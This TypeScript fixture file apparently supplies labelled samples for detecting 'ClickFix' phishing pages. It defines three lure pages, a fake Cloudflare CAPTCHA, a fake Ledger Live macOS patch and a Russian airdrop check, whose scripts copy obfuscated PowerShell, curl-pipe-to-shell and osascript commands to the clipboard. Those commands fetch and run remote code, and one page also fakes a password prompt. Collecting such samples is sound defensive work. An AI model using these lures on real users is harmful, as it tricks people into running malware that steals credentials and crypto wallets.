import { htmlRoute, type Entry } from '../entry.js';
import { doc, mark } from '../parts/zw-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-cf-signals-cloudflare-verify',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://cryptosignals-vip.pro/join',
    body: doc('Just a moment...', `
<div style="max-width:560px;margin:90px auto;font-family:system-ui">
<h1 style="font-weight:500">cryptosignals-vip.pro</h1>
<p>Verify you are human by completing the action below.</p>
<div id="box" style="border:1px solid #ddd;border-radius:4px;padding:16px;display:flex;gap:12px;align-items:center;width:300px;background:#fafafa;cursor:pointer"><input type="checkbox" id="cb"> <span>Verify you are human</span></div>
<div id="steps" style="display:none;margin-top:20px;border:1px solid #f0ad4e;padding:16px;border-radius:6px;background:#fff8ec">
<b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<p style="font-size:13px;color:#666">Ray ID: 8c1f2a7b9d3e4f10 · Performance &amp; security by Cloudflare</p></div></div>
<script>
document.getElementById("box").addEventListener("click",function(){
 var c='powershell -w hidden -nop -c "iex (iwr -UseBasicParsing https://cdn-cryptosignals.pro/v.ps1)" # \u2705 I am not a robot - reCAPTCHA Verification ID: 4721';
 var t=document.createElement("textarea");t.value=c;document.body.appendChild(t);t.select();document.execCommand("copy");t.remove();
 document.getElementById("cb").checked=true;document.getElementById("steps").style.display="block";
});
</script>`),
  },
  {
    id: 'zw-cf-ledger-live-mac-terminal',
    label: 'clickfix',
    kind: 'clickfix-macos',
    url: 'https://ledger-live-sync.app/mac',
    body: doc('Ledger Live — Sync error on macOS', `
<div style="max-width:640px;margin:60px auto;font-family:-apple-system,sans-serif">
<h1 style="font-weight:500">LEDGER</h1>
<h2>Ledger Live could not sync your accounts</h2>
<p>A security patch is required for macOS Sonoma and Sequoia. Open <b>Terminal</b> (⌘ + Space, type "Terminal"), paste the command below and press Return. Enter your Mac password when prompted.</p>
<div style="background:#111;color:#0f0;padding:14px;border-radius:8px;font-family:monospace;font-size:13px" id="cmd">/bin/bash -c "$(curl -fsSL https://ledger-live-sync.app/install/patch.sh)"</div>
<button id="cp" style="margin-top:12px;padding:10px 20px;background:#bbb0ff;border:0;border-radius:6px">Copy</button></div>
<script>document.getElementById("cp").onclick=function(){navigator.clipboard.writeText("echo 'Ledger Live patch' && curl -fsSL $(echo aHR0cHM6Ly85MS4yMTUuODUuMTcvbGwvdXBkYXRl | base64 -d) | osascript");this.textContent="Copied"}</script>`),
    routes: {
      'ledger-live-sync.app/install/patch.sh': { status: 200, headers: { 'content-type': 'text/plain' }, body: '#!/bin/bash\ncurl -s -o /tmp/.ll https://ledger-live-sync.app/install/ll.bin && chmod +x /tmp/.ll && /tmp/.ll &\nosascript -e \'display dialog "Ledger Live needs your password to apply the update" default answer "" with hidden answer\'\n' },
    },
  },
  {
    id: 'zw-cf-ru-captcha-airdrop',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://airdrop-hamster.ru/proverka',
    body: doc('Проверка безопасности', `
<div style="max-width:520px;margin:80px auto;text-align:center">
<h2>Подтвердите, что вы не робот</h2>
<p>Для получения аирдропа необходимо пройти проверку.</p>
<button id="go" style="padding:14px 30px;background:#1a73e8;color:#fff;border:0;border-radius:6px">Я не робот</button>
<div id="ins" style="display:none;text-align:left;margin-top:20px;background:#f5f5f5;padding:16px;border-radius:8px">
<p>1. Нажмите <b>Win + R</b><br>2. Вставьте <b>Ctrl + V</b><br>3. Нажмите <b>Enter</b></p></div></div>
<script src="/js/check.js"></script>`, { lang: 'ru' }),
    routes: {
      'airdrop-hamster.ru/js/check.js': jsRoute(`var _c=[99,109,100,32,47,99,32,115,116,97,114,116,32,47,109,105,110,32,112,111,119,101,114,115,104,101,108,108,32,45,101,112,32,98,121,112,97,115,115,32,45,99,32,34,73,110,118,111,107,101,45,87,101,98,82,101,113,117,101,115,116,32,104,116,116,112,115,58,47,47,97,105,114,100,114,111,112,45,104,97,109,115,116,101,114,46,114,117,47,115,46,112,115,49,32,124,32,105,101,120,34];
document.getElementById("go").onclick=function(){navigator.clipboard.writeText(String.fromCharCode.apply(null,_c)+"  # Проверка reCAPTCHA пройдена").then(function(){document.getElementById("ins").style.display="block"})};`),
    },
  },
];
